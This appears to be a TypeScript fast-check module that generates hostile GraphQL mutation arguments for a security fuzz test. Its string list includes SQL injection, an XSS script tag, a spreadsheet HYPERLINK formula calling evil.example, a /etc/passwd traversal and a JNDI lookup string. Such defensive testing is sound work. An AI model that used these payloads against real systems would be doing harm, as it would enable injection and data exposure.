import fc from 'fast-check';
import { type GraphQLField, type GraphQLInputType, isEnumType, isInputObjectType, isListType, isNonNullType, isScalarType } from 'graphql';

/**
 * SECURITY.md T11's values: for each argument of a mutation, fast-check arbitraries of its GraphQL type — mostly
 * schema-valid but hostile (empty, blank, 10,000 characters, SQL, markup, control characters, look-alike Unicode,
 * numbers at the edges of 32 bits, dates that do not exist) — and, now and then, a value of the wrong type or a missing
 * required argument, which GraphQL itself must refuse. None of it may get a 5xx, an INTERNAL or a stack.
 */
const HOSTILE_STRINGS = [
  '',
  ' ',
  '   \t  ',
  'x'.repeat(10_000),
  "'; DROP TABLE appointment; --",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  '\u0000\u0001\u0002',
  '\u202Eevil\u202C',
  'Ｍａｒｉａ',
  '🙂🙃'.repeat(200),
  '../../etc/passwd',
  '%E0%A4%A',
  ['$', '{jndi:ldap://x}'].join(''),
  'null',
  'undefined',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '529.982.247-25',
  'maria@example.com',
];

const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 100 }) },
);

const HOSTILE_DATES = ['2026-02-30', '2025-13-01', '0000-00-00', '9999-12-31', '1900-01-01', '2026-11-27', 'today', ''];
const HOSTILE_INSTANTS = ['2026-11-27T25:61:00Z', '2026-11-27T10:00:00', '1970-01-01T00:00:00Z', '9999-12-31T23:59:59Z', 'now', ''];
const INT_EDGES = [0, -1, 1, 2_147_483_647, -2_147_483_648, 35, 36, 100, 101, 1_000_000];

function scalar(name: string): fc.Arbitrary<unknown> {
  switch (name) {
    case 'ID':
      return fc.oneof(fc.uuid(), hostileString);
    case 'Int':
      return fc.oneof(fc.constantFrom(...INT_EDGES), fc.integer({ min: -2_147_483_648, max: 2_147_483_647 }));
    case 'Float':
      return fc.oneof(fc.constantFrom(0, -1, 1e308, -1e308, 0.1), fc.double({ noNaN: true, noDefaultInfinity: true }));
    case 'Boolean':
      return fc.boolean();
    case 'Date':
      return fc.oneof(
        fc.constantFrom(...HOSTILE_DATES),
        fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
      );
    case 'DateTime':
      return fc.oneof(
        fc.constantFrom(...HOSTILE_INSTANTS),
        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
      );
    case 'JSON':
      return fc.jsonValue({ maxDepth: 3 });
    default:
      return hostileString;
  }
}

/** A value of an input type: required fields always, optional ones sometimes, lists of 0 to 3 items. */
export function arbitraryOf(type: GraphQLInputType, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return arbitraryOf(type.ofType, depth);
  if (isListType(type)) return fc.array(arbitraryOf(type.ofType, depth + 1), { maxLength: depth > 2 ? 0 : 3 });
  if (isEnumType(type)) return fc.constantFrom(...type.getValues().map((v) => v.value));
  if (isScalarType(type)) return scalar(type.name);
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    const requiredKeys = fields.filter((f) => isNonNullType(f.type)).map((f) => f.name);
    const model: Record<string, fc.Arbitrary<unknown>> = {};
    for (const f of fields) model[f.name] = depth > 3 ? fc.constant(null) : arbitraryOf(f.type, depth + 1);
    return fc.record(model, { requiredKeys });
  }
  return fc.constant(null);
}

/** What a schema-invalid payload replaces an argument with: another type altogether, or nothing. */
const wrongType = fc.oneof(
  fc.constant(undefined),
  fc.constant(null),
  fc.integer(),
  fc.string({ maxLength: 20 }),
  fc.constant({}),
  fc.constant([1, 2]),
);

/** The variables of one call: every argument of the mutation, and in one call of ten one of them replaced by a wrong value. */
export function variablesOf(field: GraphQLField<unknown, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const a of field.args) model[a.name] = arbitraryOf(a.type);
  const valid = fc.record(model, { requiredKeys: field.args.filter((a) => isNonNullType(a.type)).map((a) => a.name) });
  if (field.args.length === 0) return valid;
  const names = field.args.map((a) => a.name);
  const broken = fc.tuple(valid, fc.constantFrom(...names), wrongType).map(([values, name, value]) => ({ ...values, [name]: value }));
  return fc.oneof({ weight: 9, arbitrary: valid }, { weight: 1, arbitrary: broken });
}
